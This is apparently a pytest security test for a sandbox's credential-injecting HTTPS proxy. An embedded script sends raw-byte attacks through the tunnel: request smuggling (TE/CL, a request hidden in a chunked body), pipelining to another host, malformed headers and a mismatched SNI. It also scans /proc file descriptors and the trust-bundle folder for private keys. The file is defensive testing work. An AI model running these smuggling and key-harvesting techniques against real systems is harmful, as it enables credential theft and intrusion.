"""Attacks on credential injection with raw bytes inside the terminated tunnel, in each sandbox.

tests/security/test_credential_injection.py attacks with a well-behaved client; here the
command speaks to the proxy byte by byte: pipelining a second request for another host,
header folding, a bare LF, a NUL, an over-long header, Content-Length beside
Transfer-Encoding, a placeholder hidden in a chunked body (a smuggled request) or in a
header's name, a case-changed placeholder, two bound headers, HTTP/1.0, ALPN ``h2``, a TLS
name (SNI) for another host, ``Expect: 100-continue``; it looks for the run's keys in the
folder its trust bundle lives in and in every process's open files (the proxy's leaf key
passes through a memory file), and tries to write that bundle. The live upstream
(``bound.test``, an echo) records every request it got: an attack passes when nothing but
the bound host's own origin-form requests carried the secret, and none of it came back. The
controls: the secret did reach the upstream (so it was there to leak), and a placeholder
from an earlier run reaches it as it is (worth nothing there).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from stockade.request.spec import CredentialBinding
from stockade.request.wire import to_json

from .conftest import PYTHON
from .test_credential_injection import (
    Networked,
    forms_in,
    make_secret,
    one_binding_host,
    upstreams,
)

__all__ = ["upstreams"]  # the fixture, used by name

RAW = r"""
import glob, json, os, re, socket, ssl, stat, sys, urllib.parse
ph = os.environ["GH_TOKEN"]
old = sys.argv[2] if len(sys.argv) > 2 else ""
bp = int(sys.argv[1])
B = "bound.test:%d" % bp
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
out = {}

def tunnel(alpn=None, sni="bound.test"):
    s = socket.create_connection((proxy.hostname, proxy.port), 20)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (B, B)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    ctx = ssl.create_default_context()
    if sni != "bound.test":
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.settimeout(15)
    return t

def exchange(*parts, **kw):
    try:
        t = tunnel(**kw)
        alpn = t.selected_alpn_protocol()
        for part in parts:
            t.sendall(part)
        got = b""
        while True:
            data = t.recv(65536)
            if not data:
                break
            got += data
    except Exception as error:
        return {"error": repr(error)}
    text = got.decode("latin-1")
    return {"statuses": [int(s) for s in re.findall(r"HTTP/1\.[01] (\d{3}) ", text)],
            "text": text, "alpn": alpn}

def req(path, extra="", host=None, version="HTTP/1.1", close=True):
    h = "Host: %s\r\n" % (host or B) if host != "" else ""
    c = "Connection: close\r\n" if close else ""
    return ("GET %s %s\r\n%s%s%s\r\n" % (path, version, h, extra, c)).encode("latin-1")

bearer = "Authorization: Bearer %s\r\n" % ph
out["plain"] = exchange(req("/echo?a=plain", bearer))
out["pipelined"] = exchange(
    req("/echo?a=pipe1", bearer, close=False)
    + req("/echo?a=pipe2", bearer, host="other.test:%d" % bp))
out["bare_lf"] = exchange(
    ("GET /echo?a=lf HTTP/1.1\r\nHost: %s\nX-Hidden: 1\r\n%s\r\n" % (B, bearer)).encode())
out["nul"] = exchange(req("/echo?a=nul", bearer + "X-N: a\0b\r\n"))
out["folded"] = exchange(req("/echo?a=fold", "Authorization: Bearer\r\n %s\r\n" % ph))
out["long"] = exchange(req("/echo?a=long", bearer + "X-Long: " + "a" * 20000 + "\r\n"))
out["te_cl"] = exchange(req(
    "/echo?a=tecl", bearer + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n")
    + b"0\r\n\r\n")
hidden = req("/echo?a=smuggled", bearer, host="other.test:%d" % bp)
out["smuggled"] = exchange(req(
    "/echo?a=carrier", bearer + "Transfer-Encoding: chunked\r\n")
    + b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden))
out["in_name"] = exchange(req("/echo?a=name", bearer + "X-%s: 1\r\n" % ph))
out["lower"] = exchange(req("/echo?a=lower", bearer + "X-Api-Key: %s\r\n" % ph.lower()))
out["two_bound"] = exchange(req("/echo?a=two", bearer + bearer))
out["http10"] = exchange(req("/echo?a=http10", bearer, version="HTTP/1.0"))
out["http10_nohost"] = exchange(req("/echo?a=nohost", bearer, host="", version="HTTP/1.0"))
out["alpn_h2"] = exchange(req("/echo?a=alpn", bearer), alpn=["h2", "http/1.1"])
out["h2_preface"] = exchange(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", alpn=["h2"])
out["sni_other"] = exchange(req("/echo?a=sni", bearer, host="other.test:%d" % bp),
                            sni="other.test")
out["sni_other_bound_host"] = exchange(req("/echo?a=sni2", bearer), sni="other.test")
out["expect"] = exchange(
    ("POST /echo?a=expect HTTP/1.1\r\nHost: %s\r\n%sContent-Length: %d\r\n"
     "Expect: 100-continue\r\nConnection: close\r\n\r\n" % (B, bearer, len(ph))).encode(),
    ph.encode())
out["stale"] = exchange(req("/echo?a=stale", "Authorization: Bearer %s\r\n" % old)) if old else {}
# The run's keys: the folder of its trust bundle, and writing the bundle.
folder = os.path.dirname(os.environ["SSL_CERT_FILE"])
keys = []
for name in os.listdir(folder):
    try:
        if b"PRIVATE KEY" in open(os.path.join(folder, name), "rb").read():
            keys.append(name)
    except OSError:
        pass
# ... and any process's open files (the proxy's leaf key passes through a memory file).
control = open("control-key.pem", "w+b")  # the control: a key the scan must find
control.write(b"-----BEGIN PRIVATE KEY-----\n")
control.flush()
opened, own = 0, []
for fd in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/task/*/fd/*"):
    try:
        if not stat.S_ISREG(os.stat(fd).st_mode):  # a pipe or a socket would block
            continue
        with open(os.open(fd, os.O_RDONLY | os.O_NONBLOCK), "rb") as handle:
            data = handle.read(1 << 16)
        opened += 1
        if b"PRIVATE KEY" in data:
            (own if fd.split("/")[2] == str(os.getpid()) else keys).append(fd)
    except OSError:
        pass
out["opened"], out["own"] = opened, own
try:
    open(os.environ["SSL_CERT_FILE"], "ab").close()
    out["bundle_writable"] = True
except OSError:
    out["bundle_writable"] = False
out["listing"], out["keys"], out["placeholder"] = sorted(os.listdir(folder)), keys, ph
open("raw.json", "w").write(json.dumps(out))
"""


def test_raw_requests_inside_the_tunnel_never_leak_or_misdirect_the_secret(
    box, make_host, upstreams
):
    token = make_secret()
    bound = upstreams["bound"]

    def a_run():  # a host, and so a run, of its own
        return one_binding_host(
            box,
            make_host,
            bound,
            handle="github",
            binding=CredentialBinding(f"bound.test:{bound.port}"),
            secret=token,
            plugin=Networked(),
            breaker="off-allow-exfiltration",  # several network steps; the injection alone
        )

    (box.ws / "raw.py").write_text(RAW)
    request = {"profile": "net", "credentials": {"GH_TOKEN": "github"}}
    first = a_run().run(box.request([PYTHON, "-S", "raw.py", str(bound.port)], **request))
    assert first.exit_code == 0, first.stdout.text + first.stderr.text
    old = json.loads((box.ws / "raw.json").read_text())["placeholder"]
    bound.seen.clear()
    argv = [PYTHON, "-S", "raw.py", str(bound.port), old]
    result = a_run().run(box.request(argv, **request))
    assert result.exit_code == 0, result.stdout.text + result.stderr.text
    out = json.loads((box.ws / "raw.json").read_text())
    assert out["placeholder"] != old  # each run has its own
    got = {str(r["path"]).partition("a=")[2]: dict(r["headers"]) for r in bound.seen}

    # Control: the plain request got the secret injected, and its echo came back masked.
    assert out["plain"]["statuses"] == [200] and got["plain"]["Authorization"] == f"Bearer {token}"
    assert "Bearer ***" in out["plain"]["text"] or "Bearer ###" in out["plain"]["text"]
    # Pipelined: the first answered, the second (another Host) refused, never delivered.
    assert out["pipelined"]["statuses"] == [200, 403], out["pipelined"]
    assert "pipe1" in got and "pipe2" not in got
    # Malformed heads: refused before anything went upstream.
    for name, status in (("bare_lf", 400), ("nul", 400), ("folded", 400), ("long", 431)):
        assert out[name]["statuses"] == [status], (name, out[name])
    for name in ("lf", "nul", "fold", "long", "tecl", "smuggled", "nohost", "sni"):
        assert name not in got, name
    assert out["te_cl"]["statuses"] == [400], out["te_cl"]
    # A request hidden in a chunked body carries the placeholder: the body is refused (its
    # carrier's head went first, as a streamed request's head does: to the bound host).
    assert out["smuggled"]["statuses"] == [403], out["smuggled"]
    # The placeholder as a header's name: refused like anywhere else.
    assert out["in_name"]["statuses"] == [403], out["in_name"]
    assert "name" not in got
    # Case-changed, it is not the placeholder: it goes as it is, and is worth nothing.
    assert out["lower"]["statuses"] == [200]
    assert got["lower"]["X-Api-Key"] == out["placeholder"].lower()
    # Two bound headers: both get the value (the upstream's own choice), the echo is masked.
    assert out["two_bound"]["statuses"] == [200]
    assert [v for r in bound.seen if "a=two" in str(r["path"]) for k, v in r["headers"]
            if k == "Authorization"] == [f"Bearer {token}"] * 2  # fmt: skip
    # HTTP/1.0 with its Host: served, masked; without one: refused.
    assert out["http10"]["statuses"] == [200] and "http10" in got
    assert out["http10_nohost"]["statuses"] == [400]
    # ALPN h2 is not agreed; an HTTP/2 preface is refused.
    assert out["alpn_h2"]["alpn"] in (None, "http/1.1") and out["alpn_h2"]["statuses"] == [200]
    assert out["h2_preface"].get("statuses") in ([400], None), out["h2_preface"]
    # A TLS name (SNI) other than the tunnel's host: the proxy ends the handshake.
    for name in ("sni_other", "sni_other_bound_host"):
        assert "closed" in out[name].get("error", ""), (name, out[name])
    assert "sni2" not in got
    # Expect: the proxy's 100, then the body carries the placeholder: refused.
    assert out["expect"]["statuses"] == [100, 403], out["expect"]
    # A placeholder from an earlier run is not this one's: it goes as it is.
    assert out["stale"]["statuses"] == [200] and got["stale"]["Authorization"] == f"Bearer {old}"
    # No key beside the bundle, and the bundle is the command's own to spoil at most.
    assert out["keys"] == [], out["listing"]
    assert out["opened"] > 0 and out["own"], out  # the control: it finds its own key
    assert isinstance(out["bundle_writable"], bool)

    # The secret went only into the bound header of requests to the bound host.
    for seen in bound.seen:
        for name, value in seen["headers"]:  # type: ignore[union-attr]
            if token in value:
                assert (name, value) == ("Authorization", f"Bearer {token}"), seen
        assert token not in str(seen["path"]) and token not in str(seen["body"])
    # ... and nowhere the command could read.
    for where in ("raw.json",):
        assert forms_in((box.ws / where).read_bytes(), token) == [], where
    assert forms_in(to_json(result).encode(), token) == []
    assert forms_in(to_json(first).encode(), token) == []
    assert Path(os.environ["XDG_STATE_HOME"]).is_dir()
